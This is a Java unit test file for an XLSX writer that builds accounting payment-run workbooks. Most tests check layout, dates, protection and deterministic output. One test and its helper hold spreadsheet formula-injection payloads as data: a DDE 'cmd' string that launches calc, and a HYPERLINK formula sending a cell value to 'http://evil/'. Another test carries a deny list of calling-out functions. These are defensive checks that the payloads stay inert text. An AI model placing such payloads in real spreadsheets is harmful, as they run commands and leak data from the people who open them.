package io.quittance.report.xlsx;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.quittance.report.FindingRow;
import io.quittance.report.TieRule;
import io.quittance.report.WorkbookModel;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import java.util.zip.ZipInputStream;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.DateUtil;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.util.CellReference;
import org.apache.poi.xssf.usermodel.XSSFCell;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class XlsxWriterTest {

    private static final Written SAMPLE = Written.of(SampleBooks.of(1));

    @Test
    void theSameBooksGiveTheSameBytes() throws InterruptedException {
        Thread.sleep(2_100); // more than the two seconds that a ZIP's clock counts in
        assertThat(Written.of(SampleBooks.of(1)).bytes()).isEqualTo(SAMPLE.bytes());
    }

    @Test
    void partsCarryNoClockAndStandInOrder() throws IOException {
        List<String> names = new ArrayList<>();
        try (var zip = new ZipInputStream(new ByteArrayInputStream(SAMPLE.bytes()))) {
            for (var entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
                names.add(entry.getName());
                assertThat(entry.getTimeLocal()).hasToString("1980-01-01T00:00");
            }
        }
        assertThat(names.getFirst()).isEqualTo("[Content_Types].xml");
        assertThat(names.subList(1, names.size())).isSorted();
    }

    @Test
    void propertiesComeFromTheBusinessDate() throws IOException {
        try (var file = SAMPLE.open()) {
            var core = file.getProperties().getCoreProperties();
            assertThat(core.getCreated().toInstant()).hasToString("2026-11-24T00:00:00Z");
            assertThat(core.getModified().toInstant()).hasToString("2026-11-24T00:00:00Z");
            assertThat(core.getCreator()).isEqualTo("Quittance");
            assertThat(core.getTitle()).isEqualTo("Payment runs of 2026-11-25");
        }
    }

    @Test
    void sheetsStandInTheOrderThatAccountantsKnow() throws IOException {
        try (var file = SAMPLE.open()) {
            List<String> names = new ArrayList<>();
            file.forEach(sheet -> names.add(sheet.getSheetName()));
            assertThat(names)
                    .containsExactly(
                            "About",
                            "Checks",
                            "Summary",
                            "Payments",
                            "Invoices",
                            "FX",
                            "VAT",
                            "Ledger",
                            "BankRec",
                            "OpenItems",
                            "Held",
                            "Rejected");
        }
    }

    @Test
    void wordsOfStrangersAreNeverFormulas() throws IOException {
        try (var file = Written.of(hostile()).open()) {
            Map<String, XSSFCell> texts = new HashMap<>();
            file.forEach(sheet -> sheet.forEach(row -> row.forEach(cell -> {
                if (cell.getCellType() == CellType.STRING) {
                    texts.put(cell.getStringCellValue(), (XSSFCell) cell);
                }
            })));
            assertThat(texts)
                    .containsKeys("=cmd|' /C calc'!A0", "+1+1", "@SUM(A1)", "=HYPERLINK(\"http://evil/\"&A1)", "␉=1+1");
            assertThat(texts.get("=cmd|' /C calc'!A0").getCellStyle().getQuotePrefixed())
                    .isTrue();
            assertThat(texts.get("Ana Ribeiro").getCellStyle().getQuotePrefixed())
                    .isFalse();
        }
    }

    /** Formulas may name only functions and names of ours: nothing that calls out, nothing from another file. */
    @Test
    void formulasAreOnlyOurs() throws IOException {
        try (var file = Written.of(hostile()).open()) {
            file.forEach(sheet -> sheet.forEach(row -> row.forEach(cell -> {
                if (cell.getCellType() == CellType.FORMULA) {
                    assertThat(cell.getCellFormula())
                            .doesNotContainIgnoringCase("HYPERLINK", "WEBSERVICE", "cmd", "[", "http")
                            .matches(
                                    "(ALL_OK|AS_OF-E\\d+|[A-Z]+\\d+|[A-Z]+\\d+([+][A-Z]+\\d+)+|0|-?(SUM|SUMIFS|COUNTIF|COUNTIFS|ROUND|IF)\\(.*)");
                }
            })));
        }
    }

    private static SampleBooks hostile() {
        var books = SampleBooks.of(1);
        FindingRow row = books.rejected.getFirst();
        books.rejected.set(
                0,
                new FindingRow(
                        row.subject(), true, row.entity(), "\t=1+1", "=HYPERLINK(\"http://evil/\"&A1)", row.finding()));
        return books;
    }

    @Test
    void entitiesThatAreNoneOfOursCannotBendASum() throws IOException {
        var books = SampleBooks.of(1);
        FindingRow row = books.rejected.getFirst();
        books.rejected.set(0, new FindingRow(row.subject(), true, "*", row.contractor(), row.number(), row.finding()));
        assertThat(Written.of(books).dump())
                .contains("Rejected!A2 text (unknown)")
                .anyMatch(line -> line.matches("Checks!C1 .* truth false")); // the document itself says NL-BV
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "Payments | G2 | number 4000 as 4,000.00",
                "Payments | G5 | number 880000 as 880,000",
                "Payments | G7 | number 1234.567 as 1,234.567",
                "Payments | I2 | number 46351 as 2026-11-25",
                "Invoices | I3 | number -250 as (250.00)",
                "Invoices | H3 | text EUR",
                "Ledger   | G2 | text 4000",
                "FX       | E2 | number 0.2341234567891 as 0.234123456789",
                "FX       | H2 | formula ROUND(D2*E2,2) = number 4214.22 as 4,214.22",
                "OpenItems | H3 | formula AS_OF-E3 = number 84 as 84",
                "BankRec  | I3 | formula ROUND(I2+H3,2) = number 48560 as 48,560.00",
            })
    void valuesAreWhatTheyAre(String sheet, String cell, String expected) throws IOException {
        assertThat(SAMPLE.dump()).contains(sheet + "!" + cell + " " + expected);
    }

    @Test
    void datesAreDates() throws IOException {
        try (var file = SAMPLE.open()) {
            Cell due = file.getSheet("Invoices").getRow(1).getCell(6);
            assertThat(DateUtil.isCellDateFormatted(due)).isTrue();
            assertThat(due.getLocalDateTimeCellValue().toLocalDate()).hasToString("2026-11-30");
        }
    }

    @Test
    void namesAreAbsoluteAndMeetTheirColumns() throws IOException {
        try (var file = SAMPLE.open()) {
            assertThat(file.getName("ALL_OK").getRefersToFormula()).isEqualTo("'Checks'!$C$1");
            assertThat(file.getName("Payments_Amount").getRefersToFormula()).isEqualTo("'Payments'!$G$2:$G$8");
            assertThat(file.getName("FX_Booked").getRefersToFormula()).isEqualTo("'FX'!$G$2:$G$8");
            var total = new CellReference(file.getName("TOT_EUR").getRefersToFormula());
            assertThat(file.getSheet(total.getSheetName())
                            .getRow(total.getRow())
                            .getCell(total.getCol())
                            .getNumericCellValue())
                    .isEqualTo(6419.99);
        }
    }

    @Test
    void everySheetIsLockedButForRemarks() throws IOException {
        try (var file = SAMPLE.open()) {
            assertThat(file.isStructureLocked()).isTrue();
            for (Sheet sheet : file) {
                assertThat(sheet.getProtect()).as(sheet.getSheetName()).isTrue();
                assertThat(((XSSFSheet) sheet).isAutoFilterLocked()).isFalse();
            }
            var checks = file.getSheet("Checks").getRow(3);
            assertThat(checks.getCell(11).getCellStyle().getLocked()).isFalse();
            assertThat(checks.getCell(12).getCellStyle().getLocked()).isFalse();
            assertThat(checks.getCell(5).getCellStyle().getLocked()).isTrue();
        }
    }

    @Test
    void printsOnOnePageWideWithTitlesAndDigest() throws IOException {
        try (var file = SAMPLE.open()) {
            XSSFSheet payments = file.getSheet("Payments");
            assertThat(payments.getPrintSetup().getLandscape()).isTrue();
            assertThat(payments.getPrintSetup().getFitWidth()).isEqualTo((short) 1);
            assertThat(payments.getPrintSetup().getFitHeight()).isZero();
            assertThat(payments.getRepeatingRows().formatAsString()).isEqualTo("1:1");
            assertThat(payments.getFooter().getCenter()).isEqualTo("Page &P of &N");
            assertThat(payments.getFooter().getRight()).isEqualTo("6f1d0c7be2a94c53");
            assertThat(payments.getPaneInformation().getHorizontalSplitPosition())
                    .isEqualTo((short) 1);
            assertThat(payments.getCTWorksheet().getAutoFilter().getRef()).isEqualTo("A1:P8");
            assertThat(file.getPrintArea(file.getSheetIndex(payments))).isEqualTo("Payments!$A$1:$O$15");
        }
    }

    @Test
    void aboutLeadsToEverySheet() throws IOException {
        try (var file = SAMPLE.open()) {
            assertThat(file.getSheet("About").getHyperlinkList())
                    .extracting(link -> link.getAddress() == null ? link.getLocation() : link.getAddress())
                    .hasSize(11)
                    .contains("'Checks'!A1", "'OpenItems'!A1");
        }
    }

    @Test
    void anEmptyRunStillHasEveryTie() throws IOException {
        List<String> dump = Written.of(new SampleBooks()).dump();
        assertThat(dump)
                .filteredOn(line -> line.startsWith("Checks!A"))
                .hasSize(1
                        + 1
                        + (int) Stream.of(TieRule.values())
                                .filter(rule -> !rule.isOfReturns())
                                .count());
        assertThat(dump).anyMatch(line -> line.matches("Checks!C1 .* truth true"));
    }

    /** POI writes a stray character there; see {@link StreamedFile}. */
    @Test
    void nothingStandsBetweenAFormulaAndItsValue() throws IOException {
        assertThat(sheet(2))
                .containsPattern("<c r=\"C1\" s=\"\\d+\" t=\"b\"><f>[^<]*</f><v>1</v></c>")
                .doesNotContain("</f>>");
        assertThat(sheet(1)).contains("<f>ALL_OK</f><v>1</v>");
    }

    private static String sheet(int number) throws IOException {
        try (var zip = new ZipInputStream(new ByteArrayInputStream(SAMPLE.bytes()))) {
            for (var entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
                if (entry.getName().equals("xl/worksheets/sheet" + number + ".xml")) {
                    return new String(zip.readAllBytes(), StandardCharsets.UTF_8);
                }
            }
        }
        throw new IllegalStateException("no sheet " + number);
    }

    @Test
    void textsAreInlineAndCannotBeSharedByMistake() throws IOException {
        try (var zip = new ZipInputStream(new ByteArrayInputStream(SAMPLE.bytes()))) {
            for (var entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
                if (entry.getName().startsWith("xl/worksheets/")) {
                    assertThat(new String(zip.readAllBytes(), StandardCharsets.UTF_8))
                            .contains("t=\"inlineStr\"")
                            .doesNotContain("t=\"s\"");
                }
            }
        }
    }

    /** What does not fit must say so, not vanish. */
    @Test
    void moreLinesThanASheetHoldsAreRefused() {
        assertThatThrownBy(() ->
                        XlsxWriter.write(WorkbookModel.of(new LargeBooks(50)), OutputStream.nullOutputStream(), 50))
                .isInstanceOf(IllegalStateException.class)
                .hasMessageContaining("Ledger needs more than 50 rows");
    }
}
